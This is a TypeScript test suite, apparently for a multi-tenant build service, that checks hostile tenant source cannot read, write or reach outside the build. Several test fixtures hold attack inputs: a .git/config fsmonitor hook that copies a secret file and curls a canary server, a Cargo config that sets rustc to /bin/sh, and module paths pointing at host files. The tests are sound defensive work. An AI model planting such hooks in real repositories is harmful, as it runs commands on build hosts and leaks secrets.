// The escapes a tenant's source was found to make through a build, each kept shut: a canary file
// (a secret readable by every user of the machine), a marker path and a counting server on
// loopback are planted in hostile source; the build must not read, write or reach any of them.
// The archives go to the builder directly, as a source stored before the API refused these paths
// would reach it.
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import t from 'tap'
import { templateFiles } from '@session-relay/spin/templates'
import { startCanary } from '../helpers/canary.js'
import { buildAndRead } from '../helpers/compiled-builds.js'
import { fuzzOptions } from '../helpers/fuzz.js'

t.setTimeout(400_000)
const deps = join(fileURLToPath(new URL('../../', import.meta.url)), '.cache', 'test-go-deps')

t.test('go: a git hook in .git/config never runs (it ran as root through version stamping)', async (t) => {
  const canary = await startCanary(t)
  const files = templateFiles('go', 'hello')
  files['.git/HEAD'] = 'ref: refs/heads/main\n'
  files['.git/config'] = [
    '[core]',
    '\trepositoryformatversion = 0',
    `\tfsmonitor = "cat ${canary.file} > ${canary.marker}; id >> ${canary.marker}; curl -s ${canary.url}go; false"`,
    '',
  ].join('\n')
  files['.git/objects/info/packs'] = ''
  files['.git/refs/heads/.keep'] = ''
  const { build, built } = await buildAndRead(t, 'go', files, { DEPENDENCY_CACHE: deps })
  t.ok(built, 'the function builds without its .git directory', { log: build.log })
  t.match(build.log, /ignored functions\/hello\/\.git\/config: "\.git" is read by the build's toolchain/)
  t.notOk(canary.markerWritten(), 'the marker was never written')
  t.equal(canary.connections(), 0, 'the canary server was never reached')
  t.notMatch(build.log, canary.secret, 'the secret is in no log')
})

t.test("js: a package in the function's node_modules cannot point the WIT parser at a host file", async (t) => {
  const canary = await startCanary(t)
  const files = templateFiles('js', 'hello')
  files['node_modules/@spinframework/wasi-http-proxy/package.json'] = JSON.stringify({
    name: '@spinframework/wasi-http-proxy',
    version: '1.0.1',
    config: { witDependencies: [{ witPath: canary.file, package: 'wasi:http@0.2.3', world: 'proxy' }] },
  })
  const { build, built } = await buildAndRead(t, 'js', files, {})
  t.ok(built, "the function builds with the builder's own packages", { log: build.log })
  t.match(build.log, /ignored functions\/hello\/node_modules\/@spinframework\/wasi-http-proxy\/package\.json/)
  t.notMatch(build.log, canary.secret, 'the secret is in no log')
})

t.test('fast-check: hostile go sources never read, write or reach outside their own directory', async (t) => {
  const canary = await startCanary(t)
  // A Go module on the host holding the secret: a source that builds it in would carry the
  // secret in its artifact.
  const module = await mkdtemp(join(tmpdir(), 'canary-module-'))
  t.teardown(() => rm(module, { recursive: true, force: true }))
  await writeFile(join(module, 'go.mod'), 'module example.com/secret\n\ngo 1.24\n')
  await writeFile(join(module, 'secret.go'), `package secret\n\nconst Value = "${canary.secret}"\n`)
  const hook = `[core]\n\tfsmonitor = "cat ${canary.file} > ${canary.marker}; curl -s ${canary.url}"\n`
  const hostile = fc.constantFrom<[string, string]>(
    ['.git/config', hook],
    ['.git/HEAD', 'ref: refs/heads/main\n'],
    ['deep/er/.git/config', hook],
    ['go.work', `go 1.24\n\nuse (\n\t.\n\t${module}\n)\n`],
    ['.cargo/config.toml', '[build]\nrustc = "/bin/sh"\n'],
    ['node_modules/x/package.json', '{}'],
    ['a b/ü ñ/odd name.txt', 'x'],
    [`x/${'d/'.repeat(40)}deep.txt`, 'x'],
  )
  const goMod = fc.constantFrom(
    'module example.com/hello\n\ngo 1.24\n',
    `module example.com/hello\n\ngo 1.24\n\nrequire example.com/secret v0.0.0\n\nreplace example.com/secret => ${module}\n`,
    'module example.com/hello\n\ngo 1.24\n\ntoolchain go1.99.0\n',
  )
  const importsSecret = fc.boolean()
  await fc.assert(
    fc.asyncProperty(fc.array(hostile, { maxLength: 4 }), goMod, importsSecret, async (extra, mod, imports) => {
      const files = templateFiles('go', 'hello')
      for (const [path, content] of extra) files[path] = content
      files['go.mod'] = mod
      if (imports) {
        files['main.go'] = (files['main.go'] as string)
          .replace('import (', 'import (\n\t"example.com/secret"')
          .replace('fmt.Fprintln(w, "hello from hello")', 'fmt.Fprintln(w, secret.Value)')
      }
      const { build, built } = await buildAndRead(t, 'go', files, { DEPENDENCY_CACHE: deps })
      const leaked =
        build.log.includes(canary.secret) ||
        (built !== null && built.wasm.includes(Buffer.from(canary.secret))) ||
        canary.markerWritten() ||
        canary.connections() > 0
      if (leaked) throw new Error(`the build reached outside its source:\n${build.log}`)
    }),
    fuzzOptions(0.15),
  )
  t.pass('no generated source reached the canary')
})
